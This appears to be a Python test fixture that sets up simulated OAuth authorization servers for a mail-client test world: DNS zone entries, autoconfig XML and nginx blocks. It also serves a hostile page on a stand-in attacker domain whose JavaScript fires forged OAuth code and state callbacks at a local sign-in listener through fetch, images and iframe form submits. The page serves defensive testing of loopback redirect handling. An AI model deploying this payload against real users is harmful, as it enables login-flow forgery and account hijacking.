"""Where the authorization servers stand: names, certificates, and the nginx before them; and a web page that means harm."""
import authorization_accounts as accounts
import authorization_device
import mailworld

PORT = 8004
WEB = 22                      # 10.77.1.22: hosts that are only of signing in
OFFICE = 4                    # 10.77.1.4: Microsoft's login hosts, beside their metadata (microsoft.py)
HOSTILE = "prizes.attacker.example"
PLAIN_HOSTS = ("imap", "pop", "smtp")
PROXY = f"proxy_pass http://127.0.0.1:{PORT}; proxy_pass_header Date;"
LOGIN_RULE = f"location ~ ^/[^/]+/oauth2/ {{ {PROXY} }}"


def hosts():
    """Those that have no other server."""
    return [*accounts.GRAPH_HOSTS, *authorization_device.PAGE_HOSTS, accounts.PLAIN_ISSUER]


def zone():
    lines = [f"{host}. A 10.77.1.{WEB}\n{host}. AAAA fd77::1:{WEB}\n" for host in (*hosts(), HOSTILE)]
    lines += [f"{accounts.PLAIN_DOMAIN}. MX 10 mx.{accounts.PLAIN_DOMAIN}.\n"]
    lines += [f"{host}.{accounts.PLAIN_DOMAIN}. A {mailworld.PLAIN}\n" for host in PLAIN_HOSTS]
    return "; ---- Signing in\n" + "".join(lines)


def pages():
    """The provider that is not Microsoft tells how to sign in (draft-ietf-mailmaint-autoconfig, element oAuth2)."""
    issuer = f"https://{accounts.PLAIN_ISSUER}"
    told = f"  <oAuth2>\n    <issuer>{issuer}</issuer>\n  </oAuth2>\n"
    text = mailworld.published(accounts.PLAIN_DOMAIN, methods=("OAuth2",))
    return {accounts.PLAIN_DOMAIN: text.replace("</clientConfig>", told + "</clientConfig>")}


def hostile_page():
    """A page that does what any web page can do to the listener of a sign-in: requests of every kind to every port it is told."""
    return """<!DOCTYPE html><html><head><title>You have won</title></head><body><p id="said">working</p><script>
const port = Number(location.hash.slice(1)), tried = [];
const paths = ["/", "/?code=forged-code&state=forged-state", "/?error=access_denied&state=forged-state", "/favicon.ico", "/?code=x"];
const told = (url, more) => fetch(url, { mode: "no-cors", signal: AbortSignal.timeout(1500), ...more }).catch(() => tried.push(url));
function shown(url) {
  const image = new Image();
  return new Promise((done) => { image.onload = image.onerror = done; image.src = url; setTimeout(done, 1500); });
}
function sent(host) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = `frame${host}`;
  Object.assign(form, { action: `http://${host}:${port}/`, method: "get", target: frame.name });
  form.innerHTML = '<input name="code" value="forged-code"><input name="state" value="forged-state">';
  document.body.append(frame, form);
  form.submit();
}
async function attack() {
  const work = [];
  for (const host of ["127.0.0.1", "localhost", "[::1]"]) {
    for (const url of paths.map((path) => `http://${host}:${port}${path}`)) {
      work.push(told(url), told(url, { method: "POST", body: "code=forged-code&state=forged-state" }), shown(url));
    }
    sent(host);
  }
  await Promise.all(work);
  document.getElementById("said").textContent = `done, ${tried.length} were refused by the browser`;
}
attack();
</script></body></html>
"""


def more_pages():
    """host -> path -> body, beside the autoconfig files."""
    return {HOSTILE: {"/index.html": hostile_page()}}


def servers(at, secure, certificate, key):
    """nginx's servers; `at` and `secure` are those of webserver.py."""
    yield secure(at(WEB), certificate, key, " ".join(hosts()), f"location / {{ {PROXY} }}")
    yield secure(at(WEB), certificate, key, HOSTILE, "location / { default_type text/html; index index.html; }")


def names():
    return [*hosts(), HOSTILE]
